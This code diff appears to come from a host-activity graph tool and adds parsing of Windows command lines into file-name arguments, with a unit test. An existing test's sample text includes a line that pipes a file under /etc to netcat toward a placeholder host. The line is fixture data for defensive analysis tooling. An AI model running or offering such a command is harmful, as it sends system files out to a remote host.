@@ -6,7 +6,7 @@ use crate::graph::build::{GraphBuilder, Says, Scene};
 use crate::graph::places::file_name;
 use crate::graph::store::FileId;
 use crate::graph::{Ground, NodeId, Verb};
-use crate::replay::UnitId;
+use crate::replay::{ProcessFacts, UnitId};
 
 /// Most arguments of a process that are looked at as names of files.
 const ARGS_MAX: usize = 64;
@@ -34,6 +34,7 @@ impl GraphBuilder {
             return;
         };
         let Some(args) = facts.args else {
+            self.line_names_files(scene, &facts, node);
             return;
         };
         let program = facts
@@ -64,6 +65,36 @@ impl GraphBuilder {
         }
     }
 
+    /// The same of a command line that is one text.
+    fn line_names_files(&mut self, scene: &Scene<'_>, facts: &ProcessFacts<'_>, node: NodeId) {
+        let Some(line) = facts.command_line.filter(|line| line.0.len() <= TEXT_MAX) else {
+            return;
+        };
+        let cwd = facts.cwd.unwrap_or_default().0;
+        let mut path = std::mem::take(&mut self.scratch);
+        for word in words_of(line.0).skip(1).take(ARGS_MAX) {
+            path.clear();
+            let whole = word.get(1) == Some(&b':') || word.starts_with(br"\\");
+            if !whole {
+                path.extend_from_slice(cwd.strip_suffix(br"\").unwrap_or(cwd));
+                path.push(b'\\');
+            }
+            let below = word.strip_prefix(br".\").unwrap_or(word);
+            path.extend_from_slice(below);
+            // `x.dll,Entry`, `x.dll#1`: the file is what stands before.
+            let cuts = path.iter().enumerate().skip(3);
+            let cut = cuts
+                .filter(|(_, byte)| matches!(byte, b',' | b'#'))
+                .map(|(at, _)| at);
+            let ends: Vec<usize> = [path.len()].into_iter().chain(cut.take(1)).collect();
+            let file = ends.into_iter().find_map(|end| {
+                self.changed_file_at(facts.host, path.get(..end).unwrap_or_default())
+            });
+            self.reads_by_name(scene, file, node);
+        }
+        self.scratch = path;
+    }
+
     fn reads_by_name(&mut self, scene: &Scene<'_>, file: Option<FileId>, node: NodeId) {
         if let Some(file) = file.and_then(|file| self.file_node(file)) {
             let says = Says {
@@ -73,6 +104,24 @@ impl GraphBuilder {
             self.link(scene, file, node, says);
         }
     }
+}
+
+/// The words of a Windows command line: split at spaces outside of quotes, without the quotes,
+/// also behind a `=` or `:` that opens a value.
+fn words_of(line: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let mut quoted = false;
+    let parts = line.split(move |&byte| {
+        quoted ^= byte == b'"';
+        !quoted
+            && matches!(
+                byte,
+                b' ' | b'\t' | b'=' | b'(' | b')' | b';' | b'\'' | b'&' | b'|'
+            )
+    });
+    parts
+        .flat_map(|part| part.split(|&byte| byte == b'"'))
+        .map(<[u8]>::trim_ascii)
+        .filter(|part| part.len() > 2)
 }
 
 /// Absolute paths inside an argument that is a text of its own, a program for an interpreter;
@@ -146,6 +195,23 @@ mod tests {
             b"open(F,'/tmp/a');print >>/tmp/out;system(\"cat /etc/b|nc x\"); / $x=http://h/p";
         let found: Vec<_> = paths_in(text).collect();
         assert_eq!(found, [b"/tmp/a".as_slice(), b"/etc/b", b"//h/p"]);
+    }
+
+    #[test]
+    fn a_windows_command_line_falls_into_words() {
+        let line = br#""C:\Program Files\a.exe" /i="C:\Users\x y\b.msi" rundll32 c.dll,Run"#;
+        let found: Vec<String> = words_of(line)
+            .map(|word| String::from_utf8_lossy(word).into_owned())
+            .collect();
+        assert_eq!(
+            found,
+            [
+                r"C:\Program Files\a.exe",
+                r"C:\Users\x y\b.msi",
+                "rundll32",
+                "c.dll,Run"
+            ]
+        );
     }
 
     #[test]
